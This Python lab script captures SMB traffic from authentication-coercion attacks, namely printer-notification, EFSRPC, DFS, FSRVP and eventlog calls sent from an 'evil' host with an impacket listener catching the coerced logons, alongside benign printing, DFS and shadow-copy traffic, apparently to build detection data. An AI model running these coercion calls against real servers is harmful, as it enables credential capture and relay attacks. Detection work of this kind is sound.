# SPDX-License-Identifier: Apache-2.0
"""Servers that are made to log on elsewhere, and the everyday use of what makes them."""

import os

from lab import DOMAIN, password_of, wait_for
from net import EXAMPLES, HERE, PYTHON, admin_tool, expect, python

def coerce(host, server, pipe, call, path, *printer):
    return python(host, HERE / "coerce.py", server.address, f"{DOMAIN}/alice", password_of("alice"), pipe, call, path,
                  *printer)


PRINT_CALL = "RpcRemoteFindFirstPrinterChangeNotificationEx"


def unc(host):
    return f"\\\\{host.address}\\share\\file.txt"


def coercion_refused(net):
    """Samba knows the operations, and has none of them but one."""
    for name, pipe, call, answer in (
            ("coercion_dfs_add", "netdfs", "NetrDfsAddStdRoot", "nca_s_op_rng_error"),
            ("coercion_dfs_remove", "netdfs", "NetrDfsRemoveStdRoot", "nca_s_op_rng_error"),
            ("coercion_fsrvp_supported", "FssagentRpc", "IsPathSupported", ""),
            ("coercion_fsrvp_copied", "FssagentRpc", "IsPathShadowCopied", ""),
            ("coercion_eventlog", "eventlog", "ElfrOpenBELW", "rpc_x_bad_stub_data")):
        server = net.files.host
        with net.capture(name, "tcp port 445"):
            expect(coerce(net.evil, server, pipe, call, unc(net.evil)), answer)


def coercion_print(net):
    """Who asks to be told of a server's printers is connected to: Samba does it, with nobody's name."""
    server, ask = net.print1.host, PRINT_CALL
    path = f"\\\\{net.evil.address}"
    with net.capture("coercion_print_refused", f"tcp port 445 and host {net.evil.address}"):
        expect(coerce(net.evil, server, "spoolss", ask, path), "RPC_S_SERVER_UNAVAILABLE")
    listener = impacket_server(net.evil)
    with net.capture("coercion_print_back", f"tcp port 445 and host {net.evil.address}"):
        coerce(net.evil, server, "spoolss", ask, path)
    net.evil.stop(listener)
    with net.capture("coercion_print_elsewhere", f"tcp port 445 and host {net.evil.address}"):
        expect(coerce(net.evil, server, "spoolss", ask, f"\\\\{net.ws2.address}", "laser"), "RPC_S_SERVER_UNAVAILABLE")
    with net.capture("coercion_print_by_default", f"tcp port 445 and host {net.evil.address}"):
        expect(coerce(net.evil, net.files.host, "spoolss", ask, path), "RPC_S_SERVER_UNAVAILABLE")


def impacket_server(host):
    process = host.start(PYTHON, EXAMPLES / "smbserver.py", "-smb2support", "share", host.dir)
    wait_for(lambda: host.answers(445), "smbserver does not listen")
    return process


def windows(net):
    """A server with EFSRPC, whose machine has an account."""
    def make():
        net.dc.tool("computer", "create", "WIN1")
        net.dc.tool("user", "setpassword", "WIN1$", f"--newpassword={password_of('WIN1$')}")
        process = net.win1.start(PYTHON, HERE / "efs_server.py", "alice", password_of("alice"), "WIN1$",
                                 password_of("WIN1$"), env=os.environ | {"PYTHONDONTWRITEBYTECODE": "1"})
        wait_for(lambda: net.win1.answers(445), "efs_server does not listen")
        return process
    net.machine("windows", make)
    return net.win1


def coercion_efs(net):
    server = windows(net)
    for name, pipe, call in (("coercion_efs_open", "lsarpc", "EfsRpcOpenFileRaw"),
                             ("coercion_efs_encrypt", "lsarpc", "EfsRpcEncryptFileSrv")):
        with net.capture(name, f"tcp port 445 and host {net.evil.address}"):
            coerce(net.evil, server, pipe, call, unc(net.evil))
        listener = impacket_server(net.evil)
        with net.capture(name + "_back", f"tcp port 445 and host {net.evil.address}"):
            coerce(net.evil, server, pipe, call, unc(net.evil))
        net.evil.stop(listener)


def coercion_sealed(net):
    """The same in a session that impacket seals."""
    server = net.files2.host
    with net.capture("coercion_sealed", "tcp port 445"):
        expect(coerce(net.evil, server, "netdfs", "NetrDfsAddStdRoot", unc(net.evil)), "nca_s_op_rng_error")


def benign_printing(net):
    server, who = net.print1.host, f"alice%{password_of('alice')}"
    job = net.ws1.dir / "job"
    job.write_text("a page\n" * 30)
    with net.capture("benign_printing", f"tcp port 445 and host {net.ws1.address}"):
        net.ws1.run("rpcclient", server.name, "-U", f"{DOMAIN}\\{who}", "-c",
                    "enumprinters; openprinter_ex laser; enumjobs laser; getprinter laser", check=False)
        # A client that wants to be told of a printer's jobs is connected to as well: there it is its printer.
        expect(admin_tool(net.ws1, "rpcclient", server.name, "-c", "openprinter_ex laser; rffpcnex laser"), "")
        # So does one that names its own address.
        coerce(net.ws1, server, "spoolss", PRINT_CALL, f"\\\\{net.ws1.address}", "laser")
        printed = net.ws1.run("smbclient", f"//{server.name}/laser", "-U", f"{DOMAIN}\\{who}", "-c",
                              f"print {job}; queue")
        expect(printed, "putting file")


def benign_dfs(net):
    who = f"{DOMAIN}\\alice%{password_of('alice')}"
    with net.capture("benign_dfs", f"tcp port 445 and host {net.ws1.address}"):
        expect(net.ws1.run("smbclient", "//files/dfs", "-U", who, "-c", "ls; cd docs; ls; get plan.txt /dev/null"),
               "plan.txt")
        for command in ("dfsversion", "dfsenum 3", r"dfsgetinfo \\\\files\\dfs\\docs files docs 3", "dfsenumex 1 1 1"):
            net.ws1.run("rpcclient", "files", "-U", who, "-c", command, check=False)
        admin_tool(net.ws1, "rpcclient", "files", "-c", r"dfsadd \\\\files\\dfs\\more files docs more")
        admin_tool(net.ws1, "rpcclient", "files", "-c", r"dfsremove \\\\files\\dfs\\more files docs")


def benign_shadow_copies(net):
    with net.capture("benign_shadow_copies", f"tcp port 445 and host {net.ws1.address}"):
        for command in ("fss_get_sup_version", "fss_is_path_sup docs", "fss_create_expose backup ro docs",
                        "fss_has_shadow_copy docs"):
            admin_tool(net.ws1, "rpcclient", "files", "-c", command)
